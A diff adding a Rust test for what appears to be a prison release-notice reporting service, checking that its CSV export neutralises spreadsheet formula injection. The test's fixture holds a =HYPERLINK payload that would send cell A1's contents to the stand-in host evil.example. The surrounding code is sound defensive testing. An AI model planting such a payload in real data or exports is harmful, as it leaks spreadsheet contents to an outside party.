@@ -201,3 +201,32 @@ async fn institutions_municipalities_and_teams_on_a_known_data_set() {
     );
     drop(dir);
 }
+
+#[tokio::test]
+async fn a_csv_download_opens_in_a_spreadsheet_without_running_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let app = spawn_app_in(dir.path(), &[]).await;
+    let horsens = app.prison_token().await;
+    let operator = app.operator_token().await;
+    let mut hostile = notice("H1", "150385-1234", "751", "2027-02-09", true);
+    hostile["sender"]["name"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Åbn\")".into();
+    app.accept(Kind::ReleaseNotice, &horsens, &hostile).await;
+
+    let response = app.get("/v1/reports/institutions?format=csv", &operator).await;
+    assert_eq!(response.status(), 200);
+    let text = response.text().await.unwrap();
+
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1, "{text}");
+    assert_eq!(
+        &rows[0][1], "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Åbn\")",
+        "the name is text, not a formula"
+    );
+    for cell in rows.iter().flat_map(|r| r.iter()) {
+        assert!(
+            !cell.starts_with(['=', '+', '@']),
+            "no cell a spreadsheet reads as a formula: {cell}"
+        );
+    }
+}
